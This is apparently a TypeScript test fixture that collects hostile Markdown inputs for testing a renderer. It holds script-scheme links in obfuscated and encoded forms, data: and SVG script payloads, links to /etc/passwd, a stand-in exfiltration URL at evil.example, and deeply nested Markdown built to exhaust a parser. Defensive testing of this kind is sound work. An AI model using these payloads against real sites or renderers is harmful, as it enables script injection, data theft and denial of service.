// Everything hostile that the desk is tested with, and what is hostile to a reader of Markdown: odd addresses in each of its forms, deep nesting.
import { payloads } from '../../support/web/payloads.ts';

const OUT = 'https://evil.example/?d=secret';
const RUN = 'globalThis.owned=1';

/** Addresses that are no web page. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `%6Aavascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload="${RUN}">`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `ftp://evil.example/x`,
  `//evil.example/x`,
  `\\\\evil.example\\share`,
  `ws://evil.example/`,
  `view-source:${OUT}`,
  `about:blank`,
  `intent://evil.example#Intent;scheme=https;end`,
  `vscode://file/etc/passwd`,
  `/api/sessions/7`,
  `../../etc/passwd`,
  `?gatewayUrl=${OUT}`,
];

/** What costs a careless reader its stack or its time. */
const NESTED = [
  `${'['.repeat(500)}x${`](${OUT})`.repeat(500)}`,
  `${'> '.repeat(300)}![x](${OUT})`,
  `${'- '.repeat(300)}![x](${OUT})`,
  `${'*a _b '.repeat(500)}![x](${OUT})`,
  `${'`'.repeat(501)}![x](${OUT})${'`'.repeat(500)}`,
];

export const PAYLOADS: readonly string[] = [
  ...payloads('https://evil.example').map(({ text }) => text),
  ...ADDRESSES.flatMap((address) => [`[x](${address})`, `![x](${address})`, `<${address}>`]),
  ...NESTED,
];
